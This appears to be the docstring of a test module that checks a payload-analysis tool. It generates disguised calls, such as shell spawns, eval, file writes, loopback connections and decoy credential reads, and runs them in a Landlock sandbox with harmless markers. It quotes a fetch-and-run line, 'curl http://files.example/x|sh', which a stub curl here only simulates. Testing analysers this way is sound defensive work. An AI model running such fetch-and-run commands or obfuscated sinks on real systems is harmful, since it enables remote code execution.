"""The payload oracle: what does a text really do, and what does the analysis say that it does?

A case is a *construct* (a way to reach a call: a decorator, a getter, a callback of ``sorted``) around a *sink* (start a
program, run text, write a file, connect to loopback, read a decoy's credentials), whose argument is spelled by an *encoding*
(base64, characters, reversed). The real interpreter runs it with harmless markers in a folder of its own, confined by Landlock;
where the marker shows that the sink ran, the analysis must tell the sink's capability. ``python -m tests.oracle_payload N SEED
[LANGUAGE...]`` runs it by hand, ``make oracle-payload N=... SEED=...`` likewise.

Adding a language is one file in ``constructs/``; nothing else is edited. It declares one :class:`~.grammar.Grammar`:

``id``         the language's id in ``core/payload/languages``
``program``    the command line up to the text: ``("python3", "-c")``
``sinks``      :class:`~.grammar.Sink` rows. ``kind`` is spawn, eval, write, connect or credentials (what each must tell stands in
               ``grammar.TELLS``). ``argument`` is the text that the sink takes; ``{PORT}`` in any part is the listener's number.
               ``call`` is a call with ``«A»`` for the argument's expression: ``os.system(«A»)``; ``function`` an expression for a
               function of that one argument, empty where there is none: ``os.system``; ``before`` a statement that both need:
               ``import os``.
``encodings``  name -> function that spells a text as an expression of the language. ``plain`` must be the first.
``constructs`` templates in which ``«C»`` is the call, ``«F»`` the function, ``«A»`` the argument's expression, ``«T»`` a string
               literal that holds the call as text, ``«N»`` the text of the function alone as a string literal. One that names
               ``«F»`` or ``«N»`` is only used with sinks that have a function. A construct may be limited to kinds:
               ``Construct("...", kinds=("spawn",))``; it may name its own ``interpreter`` options later on.
``quote``      function that writes a text as a string literal.

What runs is told by marks: ``spawn`` runs ``curl http://files.example/x|sh`` with a ``curl`` of the sandbox that prints ``echo>ran``;
``eval`` and ``write`` make the file ``ran`` themselves; ``connect`` is counted by the listener; ``credentials`` prints the decoy.
The texts are the same for the same N and SEED, but for the listener's port.
"""
